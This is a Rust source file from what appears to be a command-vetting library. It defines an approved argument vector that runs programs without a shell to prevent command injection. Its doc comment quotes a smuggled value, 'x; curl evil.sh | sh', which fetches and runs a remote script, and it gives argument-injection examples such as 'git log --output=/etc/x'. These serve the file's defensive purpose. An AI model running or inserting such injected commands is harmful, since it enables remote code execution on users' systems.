//! Running an approved command without a shell.
//!
//! **The hazard this removes.** Building a shell string from parts —
//! `Command::new("sh").arg("-c").arg(format!("git log {branch}"))` — lets any part that
//! contains `;`, `|`, `$(…)`, a backquote or a newline start a second command: a branch named
//! `x; curl evil.sh | sh` runs the download. That is command injection, the class of bug fixed
//! in the seed product by "migrating from `exec` to `spawn` with argument arrays". An
//! [`ApprovedArgv`] is an argument vector: each element reaches the program as exactly one
//! argument, no shell ever parses it, and the vector that runs is the one the bouncer judged.
//!
//! What it does not remove: *argument* injection. A value starting with `-` is still an option
//! to the program (`git log --output=/etc/x`); put `--` before values you do not control when
//! the program supports it. The bouncer judges the vector as given, so an option it has a rule
//! for (`git -c core.sshCommand=…`, `find -exec`) is still caught.

use crate::Error;

/// An argument vector the bouncer (or a [`Guard`](crate::Guard)) allowed. The only way to get
/// one is an `Allow` verdict, so holding one means the check ran.
#[derive(Clone, PartialEq, Eq)]
pub struct ApprovedArgv {
    argv: Vec<String>,
    cwd: String,
}

impl std::fmt::Debug for ApprovedArgv {
    // Arguments often carry tokens (`curl -H "Authorization: …"`); show the program only.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ApprovedArgv")
            .field("program", &self.program())
            .field("args", &self.argv.len().saturating_sub(1))
            .finish()
    }
}

impl ApprovedArgv {
    pub(crate) fn validate<S: AsRef<str>>(argv: &[S]) -> Result<Vec<String>, Error> {
        let argv: Vec<String> = argv.iter().map(|a| a.as_ref().to_owned()).collect();
        match argv.first() {
            Some(p) if !p.is_empty() && !argv.iter().any(|a| a.contains('\0')) => Ok(argv),
            _ => Err(Error::InvalidArgv),
        }
    }

    pub(crate) fn new(argv: Vec<String>, cwd: String) -> Self {
        Self { argv, cwd }
    }

    /// The approved vector, program first.
    pub fn argv(&self) -> &[String] {
        &self.argv
    }

    /// The program (`argv[0]`), looked up in `PATH` by the OS when it has no `/`.
    pub fn program(&self) -> &str {
        self.argv.first().map_or("", String::as_str)
    }

    /// The directory the bouncer judged it for (its [`Environment`](crate::Environment)'s
    /// starting directory); the commands below run there.
    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// A `std::process::Command` for exactly this vector, in [`ApprovedArgv::cwd`]. Add
    /// environment or stdio settings as needed; changing the program or arguments would bypass
    /// the approval, so there is no accessor for that.
    pub fn command(&self) -> std::process::Command {
        let mut c = std::process::Command::new(self.program());
        c.args(self.argv.iter().skip(1)).current_dir(&self.cwd);
        c
    }

    /// A `tokio::process::Command` for exactly this vector, in [`ApprovedArgv::cwd`].
    #[cfg(feature = "tokio")]
    #[cfg_attr(docsrs, doc(cfg(feature = "tokio")))]
    pub fn tokio_command(&self) -> tokio::process::Command {
        let mut c = tokio::process::Command::new(self.program());
        c.args(self.argv.iter().skip(1)).current_dir(&self.cwd);
        c
    }
}
